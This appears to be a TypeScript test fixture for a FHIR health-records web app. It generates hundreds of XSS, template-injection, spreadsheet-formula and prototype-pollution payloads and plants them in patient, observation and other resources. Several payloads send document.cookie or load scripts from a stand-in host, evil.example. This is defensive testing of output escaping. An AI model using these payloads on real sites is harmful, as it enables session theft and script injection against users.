/** Texts that run as code where a page takes them for markup, an address, a template or a formula. */
import type { Tree } from '../fixtures/resources.ts'

/** Origin that no page may reach. */
export const EVIL = 'https://evil.example'

/** Code whose effect a test sees: a variable of the window, a dialog, or a request. */
const CODE: readonly string[] = [
  'window.__hit=1',
  'top.__hit=1',
  'alert(1)',
  'self[`__hit`]=1',
  'parent.__hit=1;confirm(2)',
  `fetch('${EVIL}/'+document.cookie)`,
  `new Image().src='${EVIL}/i'`,
  `location='${EVIL}/l'`,
  `import('${EVIL}/m.js')`,
  'prompt`3`',
  'document.title=document.body.innerHTML="";__hit=1',
  `navigator.sendBeacon('${EVIL}/b')`,
  `document.write('<img src=${EVIL}/w>')`,
  'globalThis.__hit=sessionStorage.length+1',
  `open('${EVIL}/o')`,
  'eval("__hit=1")',
]

/** Contexts in which code may run. */
const TEMPLATES: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src="x" onerror="${code}"/>`,
  (code) => `javascript:${code}`,
  (code) => `"><script>${code}</script>`,
  (code) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
  (code) => `<a href="javascript:${code}">link</a>`,
  (code) => `' onmouseover='${code}' autofocus onfocus='${code}`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => `\u202e<img src=x onerror=${code}>\u202c`,
  (code) => `=HYPERLINK("${EVIL}","${code}")`,
  () => `<base href="${EVIL}/"/><link rel="stylesheet" href="${EVIL}/x.css"/><meta http-equiv="refresh" content="0;url=${EVIL}/"/>`,
  (code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe><iframe src="javascript:${code}"></iframe>`,
  () => `<img src="${EVIL}/pixel.png"/><object data="${EVIL}/o"></object><video src="${EVIL}/v" poster="${EVIL}/p"></video>`,
  (code) => `</title></textarea></style></pre></script><script>${code}</script>`,
  (code) => `<form action="${EVIL}" id="app"><input name="body" autofocus="" onfocus="${code}"/><button>Send</button></form>`,
  (code) => `JaVa\u00adScRiPt:${code}//\u2028${code}`,
  (code) => `<style>@import url(${EVIL}/i.css);*{background:url(${EVIL}/b)}</style><details open="" ontoggle="${code}"><p>x</p></details>`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `\${${code}}<%= ${code} %>#{${code}}\\"];${code}//`,
  (code) => `@SUM(1)*cmd|' /C ${code}'!A0`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `\u200b\ufeff<svg><animate onbegin="${code}" attributeName="x" dur="1s"/></svg>`,
  (code) => `+${code}`,
  (code) => `-2+3+${code}`,
  (code) => `<!--[if IE]><script>${code}</script><![endif]-->`,
  (code) => `blob:${EVIL}/${code}`,
  () => `//${EVIL.slice(8)}/..//%2e%2e/`,
  () => '__proto__',
  () => 'constructor',
  (code) => `&lt;script&gt;${code}&lt;/script&gt;&#x3c;script&#x3e;`,
  (code) => `vbscript:${code}`,
  (code) => `<body onload="${code}" onpageshow="${code}"><portal src="${EVIL}"></portal>`,
]

/** Returns different texts: first each context once, then with other code. There are 512. */
export const hostileTexts = (count: number): readonly string[] =>
  CODE.flatMap((_, turn) => TEMPLATES.map((template, i) => template(CODE[(i + turn) % CODE.length]!))).slice(0, count)

/** Returns a resource with the text in every element, also where FHIR allows none. Only a stub of the server sends it. */
export const hostileResourceOf = (text: string, id: string): Tree => ({
  resourceType: 'Basic',
  id,
  meta: { versionId: text, lastUpdated: text, profile: [text], tag: [{ system: text, code: text, display: text }] },
  text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${text}</div>` },
  name: [{ text }, { family: text, given: [text], prefix: [text], use: text }],
  birthDate: text,
  code: { text, coding: [{ system: text, code: text, display: text }] },
  category: [{ coding: [{ system: text, code: text }] }],
  identifier: [{ system: text, value: text, type: { text } }],
  telecom: [{ system: text, value: text, use: text }],
  address: [{ line: [text], city: text, postalCode: text, country: text }],
  subject: { reference: text, display: text },
  author: { reference: text },
  focus: { reference: 'javascript:alert(1)' },
  source: { reference: `${EVIL}/Patient/1` },
  performer: { reference: '//evil.example/Patient/1' },
  attachment: [
    { contentType: text, url: text, title: text },
    { contentType: text, title: text, data: 'PHNjcmlwdD4=' },
    { contentType: text, url: text },
  ],
  quantity: { value: 1, unit: text, comparator: text, code: text, system: text },
  period: { start: text, end: text },
  range: { low: { value: 1, unit: text }, high: { value: 2, unit: text } },
  url: text,
  note: [{ text, time: text, authorString: text }],
  extension: [
    { url: text, valueString: text },
    { url: text, valueUrl: text },
    { url: text, valueMarkdown: text },
  ],
  [text]: { [text]: text },
})

/** Returns resources that hold the texts wherever the server stores any text. */
export function storedResourcesOf(texts: readonly string[]): readonly Tree[] {
  const patient = { reference: 'Patient/hostile' }
  const each = texts.flatMap((text, i) => [
    { resourceType: 'Organization', id: `hostile-${i}`, name: text, alias: [text], contact: [{ name: { text } }] },
    {
      resourceType: 'Observation',
      id: `hostile-${i}`,
      status: 'final',
      code: { text, coding: [{ system: 'http://loinc.org', code: 'x', display: text }] },
      subject: { ...patient, display: text },
      valueString: text,
      note: [{ text }],
    },
  ])
  return [
    {
      resourceType: 'Patient',
      id: 'hostile',
      name: texts.map((text) => ({ text, family: text, given: [text] })),
      identifier: texts.map((text) => ({ system: 'urn:hostile', value: text, type: { text }, assigner: { display: text } })),
      telecom: texts.map((text) => ({ system: 'other', value: text })),
      address: texts.map((text) => ({ text, line: [text], city: text, state: text, postalCode: text, country: text })),
      extension: texts.map((text) => ({ url: 'urn:hostile', valueString: text })),
    },
    {
      resourceType: 'DocumentReference',
      id: 'hostile',
      status: 'current',
      description: texts[0],
      content: texts.map((title) => ({ attachment: { title, contentType: 'text/html', data: 'PHNjcmlwdD4=' } })),
    },
    {
      resourceType: 'Coverage',
      id: 'hostile',
      status: 'active',
      beneficiary: patient,
      payor: texts.map((display) => ({ display })),
      subscriberId: texts[0],
      class: texts.map((text) => ({ type: { text }, value: text, name: text })),
    },
    ...each,
  ]
}

/** Keys and values that pages need, so that they show the others: the structure, addresses, dates and codes of this server. */
const STRUCTURE = /^(?:resourceType|id|reference|url|fullUrl|relation|mode|status|code|use|type|kind|versionId)$/
const STRUCTURED = /^(?:\d{4}-\d\d-\d\d|[A-Z][A-Za-z]+\/[\w.-]+$|https?:|urn:)/

/**
 * Returns the response of a server with hostile texts in place of its own, one after another. `next`: returns the next text. `keeps`: which
 * texts stay, so that a page shows as much as possible (`structure`), or gets nothing that it expects (`type`: only types of resources).
 */
export function withHostileTexts(value: Tree, next: () => string, keeps: 'structure' | 'type', key = '', isNamed = false): Tree {
  if (Array.isArray(value)) return value.map((each) => withHostileTexts(each, next, keeps, key, key === 'parameter' || key === 'part'))
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(
      Object.entries<Tree>(value).map(([name, each]) => [
        name,
        isNamed && name === 'name' ? each : withHostileTexts(each, next, keeps, name),
      ]),
    )
  if (typeof value !== 'string' || key === 'resourceType') return value
  if (keeps === 'structure' && (STRUCTURE.test(key) || STRUCTURED.test(value))) return value
  if (key === 'div') return `<div xmlns="http://www.w3.org/1999/xhtml">${next()}</div>`
  return next()
}
